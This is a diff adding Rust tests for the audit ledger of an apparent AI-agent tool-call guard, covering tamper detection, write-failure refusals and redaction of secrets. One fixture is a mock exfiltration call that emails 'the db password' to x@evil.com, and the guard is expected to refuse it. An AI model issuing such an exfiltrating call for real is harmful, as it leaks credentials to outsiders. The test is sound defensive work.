@@ -1,0 +1,459 @@
+//! The ledger is written before a tool runs, records what matters without leaking secrets,
+//! and every kind of tampering with it is found at the right line.
+
+use std::path::Path;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+
+use agentwarrant::ledger::{self, Record, RecordKind, GENESIS};
+use agentwarrant::{
+    Approval, ApprovalAnswer, ApprovalRequest, Error, FileLedger, Guard, Ledger, LedgerError,
+    MemoryLedger, Outcome, Policy, ReasonCode, RunError, TaskError, ToolCall,
+};
+use serde_json::{json, Value};
+use sha2::{Digest, Sha256};
+
+use crate::fixtures::*;
+
+/// Runs a real session on `ledger`: allowed, approved, refused and abandoned calls.
+fn session(ledger: impl Ledger + 'static) {
+    let guard = builder()
+        .ledger(ledger)
+        .approver(approve_as(BOB))
+        .build()
+        .unwrap();
+    let task = guard.begin(ops(), anything()).unwrap();
+    task.run(
+        ToolCall::new("read_logs", json!({"service": "api"})),
+        |_| Ok::<_, String>(()),
+    )
+    .unwrap();
+    task.run(
+        ToolCall::new("read_secret", json!({"path": "db/main"})),
+        |_| Ok::<_, String>(()),
+    )
+    .unwrap();
+    let refusal = task
+        .authorize(ToolCall::new(
+            "send_email",
+            json!({"to": "x@evil.com", "body": "the db password"}),
+        ))
+        .unwrap_err();
+    assert!(refusal.has(&ReasonCode::Exfiltration));
+    drop(
+        task.authorize(ToolCall::new("read_logs", json!({"service": "db"})))
+            .unwrap(),
+    );
+    task.end().unwrap();
+}
+
+/// A ledger file written by [`session`], and its lines (each with its newline).
+fn written(dir: &Path) -> (std::path::PathBuf, Vec<String>) {
+    let path = dir.join("audit.jsonl");
+    session(FileLedger::open(&path).unwrap());
+    let text = std::fs::read_to_string(&path).unwrap();
+    let lines: Vec<String> = text.split_inclusive('\n').map(str::to_owned).collect();
+    assert!(lines.len() >= 10, "{} records", lines.len());
+    (path, lines)
+}
+
+fn broken_at(path: &Path) -> u64 {
+    match ledger::verify(path) {
+        Err(LedgerError::Broken { line, .. }) => line,
+        other => panic!("expected a broken ledger, got {other:?}"),
+    }
+}
+
+fn hash_of(line: &str) -> String {
+    let value: Value = serde_json::from_str(line).unwrap();
+    value["hash"].as_str().unwrap().to_owned()
+}
+
+#[test]
+fn a_ledger_written_by_a_real_session_verifies() {
+    let dir = tempfile::tempdir().unwrap();
+    let (path, lines) = written(dir.path());
+
+    let head = ledger::verify(&path).unwrap();
+
+    assert_eq!(head.records, lines.len() as u64);
+    assert_eq!(head.hash, hash_of(lines.last().unwrap()));
+    let mut prev = GENESIS.to_owned();
+    for (index, line) in lines.iter().enumerate() {
+        let record: Record = serde_json::from_str(line).unwrap();
+        assert_eq!(record.seq, index as u64 + 1);
+        assert_eq!(record.prev, prev);
+        prev = record.hash;
+    }
+    let first: Record = serde_json::from_str(&lines[0]).unwrap();
+    let last: Record = serde_json::from_str(lines.last().unwrap()).unwrap();
+    assert_eq!(first.kind, RecordKind::TaskBegun);
+    assert_eq!(last.kind, RecordKind::TaskEnded);
+}
+
+/// Writes `lines` to `path` and returns the line `verify` says is broken.
+fn tampered(path: &Path, lines: &[String]) -> u64 {
+    std::fs::write(path, lines.concat()).unwrap();
+    broken_at(path)
+}
+
+#[test]
+fn editing_one_byte_of_a_record_is_found_at_its_line() {
+    let dir = tempfile::tempdir().unwrap();
+    let (path, lines) = written(dir.path());
+    let target = 5;
+
+    // Still valid JSON, different content.
+    let mut edited = lines.clone();
+    edited[target - 1] = lines[target - 1].replacen("keep the", "keep thE", 1);
+    assert_ne!(edited[target - 1], lines[target - 1]);
+    assert_eq!(tampered(&path, &edited), target as u64);
+
+    // No longer JSON.
+    let mut edited = lines.clone();
+    edited[target - 1] = lines[target - 1].replacen('{', "[", 1);
+    assert_eq!(tampered(&path, &edited), target as u64);
+
+    // The hash itself.
+    let mut edited = lines.clone();
+    let hash = hash_of(&lines[target - 1]);
+    let flipped = if hash.starts_with('0') { "1" } else { "0" };
+    let new_hash = format!("{flipped}{}", &hash[1..]);
+    edited[target - 1] = lines[target - 1].replace(&hash, &new_hash);
+    assert_eq!(tampered(&path, &edited), target as u64);
+}
+
+#[test]
+fn deleting_a_middle_record_is_found_where_it_was() {
+    let dir = tempfile::tempdir().unwrap();
+    let (path, mut lines) = written(dir.path());
+
+    lines.remove(4);
+
+    assert_eq!(tampered(&path, &lines), 5);
+}
+
+#[test]
+fn swapping_two_records_is_found_at_the_first() {
+    let dir = tempfile::tempdir().unwrap();
+    let (path, mut lines) = written(dir.path());
+
+    lines.swap(5, 6);
+
+    assert_eq!(tampered(&path, &lines), 6);
+}
+
+#[test]
+fn truncating_mid_line_is_found_at_the_cut_record() {
+    let dir = tempfile::tempdir().unwrap();
+    let (path, lines) = written(dir.path());
+
+    let last = lines.len();
+    let mut cut = lines.clone();
+    cut[last - 1].truncate(lines[last - 1].len() / 2);
+    assert_eq!(tampered(&path, &cut), last as u64);
+
+    let mut cut = lines[..3].to_vec();
+    cut[2].pop(); // only the newline
+    assert_eq!(tampered(&path, &cut), 3);
+}
+
+#[test]
+fn appending_a_forged_record_is_found_at_its_line() {
+    let dir = tempfile::tempdir().unwrap();
+    let (path, lines) = written(dir.path());
+    let next = lines.len() as u64 + 1;
+
+    // A replayed record.
+    let mut replayed = lines.clone();
+    replayed.push(lines[2].clone());
+    assert_eq!(tampered(&path, &replayed), next);
+
+    // A new record that continues the chain but whose hash was not recomputed.
+    let mut forged: Value = serde_json::from_str(lines.last().unwrap()).unwrap();
+    forged["seq"] = json!(next);
+    forged["prev"] = json!(hash_of(lines.last().unwrap()));
+    forged["kind"] = json!("call.decided");
+    let mut appended = lines.clone();
+    appended.push(format!("{forged}\n"));
+    assert_eq!(tampered(&path, &appended), next);
+}
+
+#[test]
+fn a_correctly_forged_append_is_caught_only_by_an_anchored_head() {
+    let dir = tempfile::tempdir().unwrap();
+    let (path, mut lines) = written(dir.path());
+    let anchored = ledger::verify(&path).unwrap();
+
+    let mut forged: Value = serde_json::from_str(lines.last().unwrap()).unwrap();
+    forged["seq"] = json!(lines.len() + 1);
+    forged["prev"] = json!(anchored.hash);
+    forged.as_object_mut().unwrap().remove("hash");
+    let hash = ledger::sha256_hex(&ledger::canonical_json(&forged));
+    forged["hash"] = json!(hash);
+    lines.push(format!(
+        "{}\n",
+        String::from_utf8(ledger::canonical_json(&forged)).unwrap()
+    ));
+    std::fs::write(&path, lines.concat()).unwrap();
+
+    let head = ledger::verify(&path).unwrap();
+    assert_eq!(head.records, anchored.records + 1);
+    assert_ne!(head.hash, anchored.hash, "the anchor no longer matches");
+}
+
+#[test]
+fn opening_a_tampered_ledger_fails_and_leaves_the_file_as_it_was() {
+    let dir = tempfile::tempdir().unwrap();
+    let (path, mut lines) = written(dir.path());
+    lines.remove(3);
+    std::fs::write(&path, lines.concat()).unwrap();
+    let before = std::fs::read(&path).unwrap();
+
+    let error = FileLedger::open(&path).unwrap_err();
+
+    assert!(
+        matches!(error, LedgerError::Broken { line: 4, .. }),
+        "{error:?}"
+    );
+    assert_eq!(error.code(), "ledger_broken");
+    assert_eq!(std::fs::read(&path).unwrap(), before);
+}
+
+#[test]
+fn reopening_an_intact_ledger_continues_its_chain() {
+    let dir = tempfile::tempdir().unwrap();
+    let (path, lines) = written(dir.path());
+
+    session(FileLedger::open(&path).unwrap());
+    session(FileLedger::open(&path).unwrap());
+
+    let head = ledger::verify(&path).unwrap();
+    assert_eq!(head.records, 3 * lines.len() as u64);
+    let text = std::fs::read_to_string(&path).unwrap();
+    let resumed: Record = serde_json::from_str(text.lines().nth(lines.len()).unwrap()).unwrap();
+    assert_eq!(resumed.seq, lines.len() as u64 + 1);
+    assert_eq!(resumed.prev, hash_of(lines.last().unwrap()));
+}
+
+#[test]
+fn an_unwritable_ledger_path_fails_at_open() {
+    let dir = tempfile::tempdir().unwrap();
+
+    for path in [
+        dir.path().join("missing/audit.jsonl"),
+        dir.path().to_owned(),
+    ] {
+        let error = FileLedger::open(&path).unwrap_err();
+        assert!(matches!(error, LedgerError::Io { .. }), "{error:?}");
+        assert_eq!(error.code(), "ledger_io");
+    }
+}
+
+#[test]
+fn a_ledger_that_cannot_write_stops_the_task_from_beginning() {
+    let Ok(full) = FileLedger::open("/dev/full") else {
+        return; // not on Linux
+    };
+    let guard = builder().ledger(full).build().unwrap();
+
+    let error = guard.begin(ops(), anything()).unwrap_err();
+
+    assert!(
+        matches!(error, Error::Task(TaskError::Ledger { .. })),
+        "{error:?}"
+    );
+    assert_eq!(error.code(), "ledger_error");
+}
+
+/// A memory ledger that fails every record of one kind, and optionally every flush.
+struct Failing {
+    inner: MemoryLedger,
+    fails: Option<RecordKind>,
+    flush_fails: bool,
+}
+
+impl Failing {
+    fn on(kind: RecordKind) -> Arc<Self> {
+        Arc::new(Self {
+            inner: MemoryLedger::new(),
+            fails: Some(kind),
+            flush_fails: false,
+        })
+    }
+}
+
+impl Ledger for Failing {
+    fn append(&self, record: Record) -> Result<Record, LedgerError> {
+        if self.fails == Some(record.kind) {
+            return Err(LedgerError::Io {
+                path: "audit".into(),
+                message: "disk full".into(),
+            });
+        }
+        self.inner.append(record)
+    }
+
+    fn flush(&self) -> Result<(), LedgerError> {
+        if self.flush_fails {
+            return Err(LedgerError::Io {
+                path: "audit".into(),
+                message: "fsync failed".into(),
+            });
+        }
+        Ok(())
+    }
+}
+
+/// Runs `call` on a guard over `ledger` and returns the refusal; the tool must not run.
+fn refused_by(ledger: Arc<Failing>, policy: Policy, call: ToolCall) -> agentwarrant::Refusal {
+    let guard = builder()
+        .ledger(ledger)
+        .policy(policy)
+        .approver(approve_as(BOB))
+        .build()
+        .unwrap();
+    let task = guard.begin(ops(), anything()).unwrap();
+    let ran = AtomicBool::new(false);
+    let result = task.run(call, |_| {
+        ran.store(true, Ordering::SeqCst);
+        Ok::<_, String>(())
+    });
+    assert!(!ran.load(Ordering::SeqCst), "the tool ran without evidence");
+    match result {
+        Err(RunError::Refused(refusal)) => refusal,
+        other => panic!("expected a refusal, got {other:?}"),
+    }
+}
+
+#[test]
+fn a_ledger_that_fails_at_write_time_refuses_the_call_before_the_tool_runs() {
+    let logs = || ToolCall::new("read_logs", json!({"service": "api"}));
+    let secret = || ToolCall::new("read_secret", json!({"path": "db/main"}));
+    for (kind, call) in [
+        (RecordKind::CallDecided, logs()),
+        (RecordKind::CallDecided, secret()),
+        (RecordKind::ApprovalRequested, secret()),
+        (RecordKind::ApprovalAnswered, secret()),
+    ] {
+        let refusal = refused_by(Failing::on(kind), Policy::default_bundle(), call);
+        assert!(refusal.has(&ReasonCode::LedgerError), "{refusal:?}");
+    }
+}
+
+#[test]
+fn a_ledger_sync_obligation_refuses_the_call_when_the_sync_fails() {
+    let policy = Policy::default_bundle().with_module(
+        "sync.rego",
+        "package agentwarrant\n\nobligations := {\"ledger_sync\": true}\n",
+    );
+    let ledger = Arc::new(Failing {
+        inner: MemoryLedger::new(),
+        fails: None,
+        flush_fails: true,
+    });
+
+    let refusal = refused_by(
+        ledger,
+        policy,
+        ToolCall::new("read_logs", json!({"service": "api"})),
+    );
+
+    assert_eq!(refusal.codes(), ["ledger_error"]);
+}
+
+#[test]
+fn sensitive_args_are_redacted_while_the_digest_covers_the_originals() {
+    let ledger = Arc::new(MemoryLedger::new());
+    let requests = Requests::default();
+    let seen = requests.clone();
+    let guard = builder()
+        .env("prod")
+        .ledger(ledger.clone())
+        .approver(move |request: &ApprovalRequest| {
+            seen.push(request);
+            Ok(ApprovalAnswer::Approved(vec![Approval::of(request, BOB)]))
+        })
+        .build()
+        .unwrap();
+    let task = guard.begin(ops(), anything()).unwrap();
+    let args = json!({"to": "bob@acme.com", "body": "the password is hunter2", "cc": []});
+
+    let warrant = task
+        .authorize(ToolCall::new("send_email", args.clone()))
+        .unwrap();
+    let call = warrant.call_id();
+    warrant.complete(Outcome::ok()).unwrap();
+
+    // Canonical JSON: sorted keys, no whitespace.
+    let canonical = r#"{"body":"the password is hunter2","cc":[],"to":"bob@acme.com"}"#;
+    let digest = format!("{:x}", Sha256::digest(canonical.as_bytes()));
+    let redacted = json!({"to": "bob@acme.com", "body": "[redacted]", "cc": []});
+    let mut with_args = 0;
+    for record in records_of(&ledger, call) {
+        if let Some(recorded) = &record.args {
+            assert_eq!(recorded, &redacted, "{}", record.kind.as_str());
+            assert_eq!(record.args_digest.as_deref(), Some(digest.as_str()));
+            with_args += 1;
+        }
+    }
+    assert_eq!(with_args, 3, "requested, answered, decided");
+    assert_eq!(requests.all()[0].args, redacted);
+    assert!(!ledger.to_jsonl().contains("hunter2"));
+}
+
+#[test]
+fn a_memory_ledger_verifies_like_a_file() {
+    let ledger = Arc::new(MemoryLedger::new());
+    session(ledger.clone());
+    let jsonl = ledger.to_jsonl();
+
+    let head = ledger::verify_str(&jsonl).unwrap();
+
+    let records = ledger.records();
+    assert_eq!(head.records, records.len() as u64);
+    assert_eq!(head.hash, records.last().unwrap().hash);
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("copy.jsonl");
+    std::fs::write(&path, &jsonl).unwrap();
+    assert_eq!(ledger::verify(&path).unwrap(), head);
+    // A file ledger continues where the memory ledger stopped.
+    session(FileLedger::open(&path).unwrap());
+    assert!(ledger::verify(&path).unwrap().records > head.records);
+}
+
+#[test]
+fn a_file_that_is_not_utf8_is_broken_at_the_line_of_the_bad_byte() {
+    let dir = tempfile::tempdir().unwrap();
+    let (path, lines) = written(dir.path());
+    let mut bytes = lines[..2].concat().into_bytes();
+    bytes.extend_from_slice(b"{\"seq\":3,\xff}\n");
+
+    std::fs::write(&path, bytes).unwrap();
+
+    assert_eq!(broken_at(&path), 3);
+}
+
+#[test]
+fn a_guard_logs_to_one_ledger_across_tasks_and_threads() {
+    let ledger = Arc::new(MemoryLedger::new());
+    let guard: Guard = builder().ledger(ledger.clone()).build().unwrap();
+    std::thread::scope(|s| {
+        for n in 0..4 {
+            let guard = &guard;
+            s.spawn(move || {
+                let task = guard.begin(ops(), anything()).unwrap();
+                for _ in 0..10 {
+                    task.run(
+                        ToolCall::new("read_logs", json!({"service": format!("svc{n}")})),
+                        |_| Ok::<_, String>(()),
+                    )
+                    .unwrap();
+                }
+            });
+        }
+    });
+
+    let head = ledger::verify_str(&ledger.to_jsonl()).unwrap();
+    assert_eq!(head.records, 4 * (2 + 20 + 2));
+}
